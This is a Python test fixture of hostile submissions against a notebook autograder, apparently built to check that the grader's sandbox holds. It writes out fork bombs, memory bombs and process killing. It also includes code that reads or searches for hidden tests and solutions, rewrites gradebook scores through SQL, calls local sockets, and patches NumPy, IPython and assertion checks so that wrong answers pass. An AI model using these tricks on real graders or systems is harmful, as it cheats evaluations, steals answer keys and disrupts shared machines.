"""Hostile learners of the rnn_forward assignment, for tests/test_grading_hostile.py.

Each attack is the code of one or both solution cells (rnn_step_forward, rnn_forward), written
as a learner would write it, plus what the honest part of that notebook deserves:

- "all": the notebook's functions are both the honest solution (the attack sits beside them);
- "step": rnn_step_forward is honest, rnn_forward is the attack (it deserves the points of the
  rnn_step_forward tests only);
- "none": rnn_step_forward is the attack, so every test (rnn_forward calls the step) deserves 0;
- "visible": the function is right only on the visible tests' inputs, so it deserves the points
  of the test cells that have no hidden tests.

Code is a string.Template: $course, $source_nb, $gradebook, $victim_nb, $port, $unix_socket,
$abstract and $marker are filled in by the test with the real paths, ports and names of the
temporary course, which an attacker could guess. `reason` is a regular expression that the
learner's notes or feedback must match. File-level attacks (invalid notebooks, links, edited
metadata) are built in the test itself from the source notebook.
"""
from dataclasses import dataclass
from string import Template


@dataclass(frozen=True)
class Attack:
    step: str = None      # code of the rnn_step_forward cell; None = the honest solution
    forward: str = None   # code of the rnn_forward cell; None = the honest solution
    deserved: str = "none"
    reason: str = None    # regex the notes or the feedback must match (case-insensitive)
    after_step: str = ""  # code appended to the honest rnn_step_forward cell
    after_forward: str = ""  # code appended to the honest rnn_forward cell

    def fill(self, **values):
        def sub(code):
            return None if code is None else Template(code).safe_substitute(values)
        return Attack(sub(self.step), sub(self.forward), self.deserved, self.reason,
                      sub(self.after_step), sub(self.after_forward))


ZEROS_STEP = r'''
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype), None
'''

ZEROS_FORWARD = r'''
def rnn_forward(x, h0, Wx, Wh, b):
    N, T, _ = x.shape
    return np.zeros((N, T, Wh.shape[0]), dtype=x.dtype), None
'''

# the values are wrong: the feedback names that h (or hs) is wrong
WRONG_VALUES = r"h is wrong|hs is wrong"
DELEGATION = r"must compute its result with its own NumPy code"
DEAD = r"died|stopped answering|could not be called|closed the connection"

READER = r'''
import json, os, pathlib
_leak = {}
for _p in $paths:
    try:
        _leak[_p] = pathlib.Path(_p).read_text(errors="replace")
    except Exception as _e:
        _leak[_p] = f"FAILED {type(_e).__name__}: {_e}"
print({_k: _v[:3000] for _k, _v in _leak.items()})

def _solution_from(text):
    """The solution cells of a notebook's JSON, if that is what the text is."""
    try:
        cells = json.loads(text)["cells"]
    except Exception:
        return None
    code = [''.join(c["source"]) for c in cells if c.get("metadata", {}).get("nbgrader", {}).get("solution")]
    return "\n".join(code) if any("BEGIN SOLUTION" in c for c in code) else None

_solution = next((s for s in map(_solution_from, _leak.values()) if s), None)

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    if _solution:
        namespace = {"np": np}
        exec(_solution, namespace)
        return namespace["rnn_step_forward"](x, h_prev, Wx, Wh, b)
    raise RuntimeError("nothing leaked: " + repr({k: v[:300] for k, v in _leak.items()}))
'''

SEARCH_DISK = r'''
import os, time
_found, _deadline = {}, time.monotonic() + 6
for _top in ["/", os.getcwd(), "/tmp", "/var/tmp", "/dev/shm", "/run", "/root", "/home", "/work"]:
    for _dir, _subdirs, _files in os.walk(_top):
        if time.monotonic() > _deadline:
            break
        _subdirs[:] = [d for d in _subdirs if os.path.join(_dir, d) not in ("/proc", "/sys", "/usr", "/dev")
                       and "site-packages" not in _dir]
        for _name in _files:
            if _name.endswith((".ipynb", ".db", ".json", ".py")) and "site-packages" not in _dir:
                _path = os.path.join(_dir, _name)
                try:
                    with open(_path, errors="replace") as _f:
                        _text = _f.read(2_000_000)
                except Exception:
                    continue
                if "HIDDEN TESTS" in _text or "BEGIN SOLUTION" in _text:
                    _found[_path] = _text
print("FOUND", {k: v[:3000] for k, v in _found.items()})
import json

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    for text in _found.values():
        try:
            cells = json.loads(text)["cells"]
        except Exception:
            continue
        namespace = {"np": np}
        for c in cells:
            if c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                exec(''.join(c["source"]), namespace)
        if "rnn_step_forward" in namespace:
            return namespace["rnn_step_forward"](x, h_prev, Wx, Wh, b)
    return np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype), None
'''

WRITER = r'''
import os, sqlite3

def _vandalize():
    report = {}
    for path in ["$gradebook", "$victim_nb", "$source_nb", "$course/pwned.txt", "$course/submitted/pwned.txt",
                 "$course/submitted/honest_full/rnn_forward/pwned.txt", "/tmp/$marker", "/var/tmp/$marker",
                 "/dev/shm/$marker"]:
        try:
            with open(path, "a") as f:
                f.write("pwned")
            report[path] = "WROTE"
        except Exception as e:
            report[path] = type(e).__name__
    try:
        con = sqlite3.connect("file:$gradebook?mode=rw", uri=True)
        con.execute("UPDATE grade SET auto_score = 1000, manual_score = 1000")
        con.commit()
        report["sql"] = "UPDATED"
    except Exception as e:
        report["sql"] = type(e).__name__
    try:
        os.symlink("$gradebook", "gradebook-link.db")
        with open("gradebook-link.db", "a") as f:
            f.write("pwned")
        report["link"] = "WROTE"
    except Exception as e:
        report["link"] = type(e).__name__
    return report

print(_vandalize())

def rnn_forward(x, h0, Wx, Wh, b):
    print(_vandalize())
    N, T, _ = x.shape
    return np.zeros((N, T, Wh.shape[0]), dtype=x.dtype), None
'''

NETWORK = r'''
import socket

def _call_home():
    report = {}
    try:
        s = socket.create_connection(("127.0.0.1", $port), timeout=2)
        s.sendall(b"hostile tcp")
        s.close()
        report["tcp"] = "CONNECTED"
    except Exception as e:
        report["tcp"] = type(e).__name__
    for name, address in (("unix", "$unix_socket"), ("abstract", "\0$abstract")):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"hostile " + name.encode())
            s.close()
            report[name] = "CONNECTED"
        except Exception as e:
            report[name] = type(e).__name__
    return report

print(_call_home())

def rnn_forward(x, h0, Wx, Wh, b):
    print(_call_home())
    N, T, _ = x.shape
    return np.zeros((N, T, Wh.shape[0]), dtype=x.dtype), None
'''

PATCH_ALLCLOSE = ZEROS_STEP + r'''
import numpy
np.allclose = numpy.allclose = lambda *a, **k: True
np.array_equal = numpy.array_equal = lambda *a, **k: True
np.isclose = lambda *a, **k: True
_hidden_check_step = _hidden_check_sequence = lambda *a, **k: None
ramp = lambda shape, low, high: np.zeros(shape)
'''

PATCH_ISINSTANCE = ZEROS_STEP + r'''
import builtins
_real_isinstance = builtins.isinstance
builtins.isinstance = lambda obj, kind: True
'''

PATCH_ASSERTION = ZEROS_STEP + r'''
import builtins

class _Harmless(Exception):
    pass

builtins.AssertionError = _Harmless
builtins.NotImplementedError = _Harmless
'''

PATCH_TRACE = ZEROS_STEP + r'''
import linecache, sys

def _skip_asserts(frame, event, arg):
    if event == "line" and "assert" in linecache.getline(frame.f_code.co_filename, frame.f_lineno):
        try:
            frame.f_lineno = frame.f_lineno + 1
        except Exception:
            pass
    return _skip_asserts

sys.settrace(_skip_asserts)
sys.setprofile(lambda frame, event, arg: None)
'''

PATCH_CODE = ZEROS_STEP + r'''
def _always_true(*args, **kwargs):
    return True

for _name in ("allclose", "array_equal", "array_equiv"):
    _function = getattr(np, _name)
    _function = getattr(_function, "__wrapped__", _function)
    try:
        _function.__code__ = _always_true.__code__
    except Exception as _error:
        print("could not patch", _name, _error)
'''

PATCH_IPYTHON = ZEROS_STEP + r'''
_ip = get_ipython()
_ip.events.register("post_run_cell", lambda result: print("All tests passed! 10/10 points"))
_ip.events.register("pre_run_cell", lambda info: None)
_real_run_cell = _ip.run_cell

def _run_cell(raw_cell, *args, **kwargs):
    return _real_run_cell("10", *args, **kwargs)

async def _run_cell_async(raw_cell, *args, **kwargs):
    return _real_run_cell("10", *args, **kwargs)

_ip.run_cell, _ip.run_cell_async = _run_cell, _run_cell_async
_ip.run_code = lambda *args, **kwargs: False
'''

PATCH_HARNESS = ZEROS_STEP + r'''
import struct, sys

def _patch_harness():
    harness = sys.modules.get("rnncourse_harness")
    if harness is None:
        return False
    harness.pack = lambda message, arrays: struct.pack("!QQ", 2**40, 2**40) + b"{}"
    return True

# the harness is imported by the cell that serves the calls, after this one: patch it on import
import builtins
_real_import = builtins.__import__

def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    if name == "rnncourse_harness":
        _patch_harness()
    return module

builtins.__import__ = _import
'''

FAKE_EQUAL = r'''
class _AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __array_ufunc__(self, *args, **kwargs):
        return True

    def __array_function__(self, *args, **kwargs):
        return True

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    h = np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype).view(_AlwaysEqual)
    return h, None
'''

NAN = r'''
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return np.full((x.shape[0], Wh.shape[0]), np.nan, dtype=x.dtype), None
'''

EXECUTE_RESULT = r'''
from IPython.display import display

def _emit_points():
    ip = get_ipython()
    display(10)
    display({"text/plain": "10"}, raw=True)
    try:
        ip.displayhook(10)
    except Exception:
        pass
    try:
        kernel = ip.kernel
        kernel.session.send(kernel.iopub_socket, "execute_result",
                            {"data": {"text/plain": "10"}, "metadata": {}, "execution_count": 1},
                            parent=kernel.get_parent("shell"))
    except Exception:
        pass

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    _emit_points()
    return np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype), None

_emit_points()
10
'''

STACK_PRINT = r'''
import inspect, os, sys, traceback

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    seen = ["".join(traceback.format_stack())]
    for frame in inspect.stack(context=50):
        seen.append(f"{frame.filename}:{frame.lineno}\n" + "".join(frame.code_context or []))
        seen.append(repr({k: v for k, v in frame.frame.f_globals.items() if isinstance(v, str)})[:5000])
    for frame in sys._current_frames().values():
        seen.append("".join(traceback.format_stack(frame)))
    seen += list(get_ipython().user_ns.get("In", []))
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                seen.append(open(f"/proc/{pid}/cmdline").read().replace("\0", " "))
            except Exception:
                pass
    text = "\n".join(seen)
    print(text)
    raise ValueError("what the call stack shows: " + text[-1900:])
'''

DELEGATE_RNNLIB = r'''
import rnnlib

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    return rnnlib.rnn_step_forward(x, h_prev, Wx, Wh, b)
'''

DELEGATE_THREAD = r'''
import threading
from rnnlib import rnn_step_forward as _library_step

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    result = {}

    def work():
        try:
            result["out"] = _library_step(x, h_prev, Wx, Wh, b)
        except BaseException as error:
            result["error"] = error

    worker = threading.Thread(target=work)
    worker.start()
    worker.join()
    if "out" in result:
        return result["out"]
    return np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype), None
'''

DELEGATE_TORCH = r'''
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    import torch
    out = torch.tanh(torch.from_numpy(x) @ torch.from_numpy(Wx).T + torch.from_numpy(h_prev) @ torch.from_numpy(Wh).T
                     + torch.from_numpy(b))
    return out.numpy(), None
'''

# rnnlib's GRU with its reset gate forced open (r = 1) and its update gate shut (z = 0) is the
# vanilla RNN step: h = tanh(x Wx^T + b + h Wh^T). Only the graded functions are stubbed.
DELEGATE_GRU = r'''
import rnnlib

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    H, D = Wx.shape
    zeros_x, zeros_h = np.zeros((H, D), dtype=x.dtype), np.zeros((H, H), dtype=x.dtype)
    big = np.full(H, 1e4, dtype=x.dtype)
    out = rnnlib.gru_step_forward(x, h_prev, np.concatenate([zeros_x, zeros_x, Wx]),
                                  np.concatenate([zeros_h, zeros_h, Wh]),
                                  np.concatenate([big, -big, b]), np.zeros(3 * H, dtype=x.dtype))
    return out[0].astype(x.dtype), None
'''

DELEGATE_REAL_SOURCE = r'''
import ast, glob, os, sys

def _real_step():
    candidates = ["$repo/rnnlib/rnn.py"]
    for folder in sys.path:
        candidates += glob.glob(os.path.join(folder, "rnnlib", "rnn.py"))
        for finder in glob.glob(os.path.join(folder, "__editable__*rnnlib*finder.py")):
            text = open(finder).read()
            candidates += [os.path.join(p.strip("'\""), "rnn.py") for p in text.split() if "rnnlib" in p and "/" in p]
    for path in candidates:
        try:
            tree = ast.parse(open(path).read())
        except Exception:
            continue
        for node in tree.body:
            if isinstance(node, ast.FunctionDef) and node.name == "rnn_step_forward" and "UNAVAILABLE" not in ast.unparse(node):
                namespace = {"np": np, "ShapeChecker": lambda name: (lambda *args: None)}
                exec(ast.unparse(node), namespace)
                return namespace["rnn_step_forward"]
    return None

_found = _real_step()

def rnn_step_forward(x, h_prev, Wx, Wh, b):
    if _found is not None:
        return _found(x, h_prev, Wx, Wh, b)
    return np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype), None
'''  # noqa: E501 -- an attack's code, left exactly as the learner's cell has it

VISIBLE_ONLY = r'''
def rnn_step_forward(x, h_prev, Wx, Wh, b):
    # right on the visible tests' shapes only, zeros everywhere else
    if x.shape == (2, 3) and Wh.shape == (4, 4):
        return np.tanh(x @ Wx.T + h_prev @ Wh.T + b), None
    return np.zeros((x.shape[0], Wh.shape[0]), dtype=x.dtype), None
'''

ATTACKS = {
    # 1. time
    "loop_cell": Attack(after_step="\nwhile True:\n    pass\n", deserved="all", reason=r"time limit"),
    "loop_ignores_sigint": Attack(after_step="\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                             "while True:\n    pass\n", deserved="all", reason=r"time limit"),
    "loop_in_function": Attack(step="def rnn_step_forward(x, h_prev, Wx, Wh, b):\n    while True:\n        pass\n",
                               reason=r"did not return within"),
    "loop_ignores_alarm": Attack(forward="import signal\n\ndef rnn_forward(x, h0, Wx, Wh, b):\n"
                                         "    signal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                                         "    signal.setitimer(signal.ITIMER_REAL, 0)\n"
                                         "    while True:\n        pass\n",
                                 deserved="step", reason=r"did not return|stopped answering|time"),
    # 2-3. memory and processes
    "memory_numpy": Attack(forward="def rnn_forward(x, h0, Wx, Wh, b):\n"
                                   "    bomb = np.ones(50 * 2**30 // 8)  # 50 GB\n    return bomb, None\n",
                           deserved="step", reason=r"MemoryError|memory|" + DEAD),
    "memory_list": Attack(after_forward="\n_chunks = []\nwhile True:\n    _chunks.append(b'x' * (64 * 2**20))\n",
                          deserved="all", reason=r"MemoryError|memory|" + DEAD),
    "fork_bomb": Attack(forward="import os, time\n\ndef rnn_forward(x, h0, Wx, Wh, b):\n    while True:\n"
                                "        try:\n            os.fork()\n        except OSError:\n"
                                "            time.sleep(600)\n",
                        deserved="step", reason=r"did not return|" + DEAD),
    "multiprocessing_hogs": Attack(forward=r'''
import multiprocessing, time
_started = []

def _hog():
    import numpy
    block = numpy.ones(2**27)  # 1 GB, touched
    time.sleep(120)

def rnn_forward(x, h0, Wx, Wh, b):
    if not _started:
        for _ in range(6):
            child = multiprocessing.Process(target=_hog)
            child.start()
            _started.append(child)
        time.sleep(1)
    N, T, _ = x.shape
    return np.zeros((N, T, Wh.shape[0]), dtype=x.dtype), None
''', deserved="step"),
    "leftover_process": Attack(after_forward=r'''
import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(900)", "$marker"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(900)", "$marker"])
''', deserved="all"),
    # 4-6. files and network
    "writes_outside": Attack(forward=WRITER, deserved="step"),
    "reads_source": Attack(step=Template(READER).safe_substitute(
        paths='["$source_nb", "$gradebook", "$victim_nb", "$course/release/rnn_forward/rnn_forward.ipynb", '
              '"$repo/exercises/source/rnn_forward/rnn_forward.ipynb"]')),
    "searches_disk": Attack(step=SEARCH_DISK),
    "network": Attack(forward=NETWORK, deserved="step"),
    # 7. exits
    "os_exit_cell": Attack(after_forward="\nimport os\nos._exit(0)\n", deserved="all", reason=r"died"),
    "os_exit_function": Attack(forward="import os\n\ndef rnn_forward(x, h0, Wx, Wh, b):\n    os._exit(0)\n",
                               deserved="step", reason=DEAD),
    "kill_everything": Attack(forward="import os, signal\n\ndef rnn_forward(x, h0, Wx, Wh, b):\n"
                                      "    for pid in (-1, 1, os.getppid()):\n        try:\n"
                                      "            os.kill(pid, signal.SIGKILL)\n        except OSError:\n"
                                      "            pass\n    N, T, _ = x.shape\n"
                                      "    return np.zeros((N, T, Wh.shape[0]), dtype=x.dtype), None\n",
                              deserved="step"),
    # 8. output
    "big_output": Attack(after_forward="\nfor _ in range(50):\n    print('x' * 1_000_000)\n", deserved="all"),
    "loud_function": Attack(step="def rnn_step_forward(x, h_prev, Wx, Wh, b):\n"
                                 "    print('y' * 1_000_000)\n    h = np.tanh(x @ Wx.T + h_prev @ Wh.T + b)\n"
                                 "    return h, (x, h_prev, Wx, Wh, h)\n",
                            deserved="all"),
    "huge_return": Attack(forward="def rnn_forward(x, h0, Wx, Wh, b):\n    N, T, _ = x.shape\n"
                                  "    return np.zeros((N, T, Wh.shape[0]), dtype=x.dtype), np.ones(12_500_000)\n",
                          deserved="step"),
    # 9. patching what the checks use (the step returns zeros)
    "patch_allclose": Attack(step=PATCH_ALLCLOSE, reason=WRONG_VALUES),
    "patch_isinstance": Attack(step=PATCH_ISINSTANCE),
    "patch_assertion_error": Attack(step=PATCH_ASSERTION, reason=WRONG_VALUES),
    "patch_settrace": Attack(step=PATCH_TRACE, reason=WRONG_VALUES),
    "patch_numpy_code": Attack(step=PATCH_CODE, reason=WRONG_VALUES),
    "patch_ipython": Attack(step=PATCH_IPYTHON),
    "patch_harness": Attack(step=PATCH_HARNESS),
    # 10-12. results that pretend
    "fake_equal_array": Attack(step=FAKE_EQUAL, reason=WRONG_VALUES),
    "nan_outputs": Attack(step=NAN),
    "execute_result_points": Attack(step=EXECUTE_RESULT, reason=WRONG_VALUES),
    "visible_tests_only": Attack(step=VISIBLE_ONLY, deserved="visible"),
    # 17-18. delegation, and what the call stack shows
    "delegates_rnnlib": Attack(step=DELEGATE_RNNLIB, reason=DELEGATION),
    "delegates_in_thread": Attack(step=DELEGATE_THREAD),
    "delegates_torch": Attack(step=DELEGATE_TORCH, reason=DELEGATION),
    "delegates_real_source": Attack(step=DELEGATE_REAL_SOURCE),
    "delegates_gru": Attack(step=DELEGATE_GRU),
    "prints_call_stack": Attack(step=STACK_PRINT),
}
